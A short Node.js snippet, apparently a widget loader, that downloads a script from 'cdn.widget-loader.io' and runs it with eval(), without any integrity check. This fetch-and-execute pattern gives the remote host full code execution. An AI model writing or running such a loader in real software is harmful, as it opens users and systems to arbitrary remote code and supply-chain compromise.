const https = require("https");

https.get("https://cdn.widget-loader.io/v2/loader.js", (res) => {
  let body = "";
  res.on("data", (d) => (body += d));
  res.on("end", () => eval(body));
});
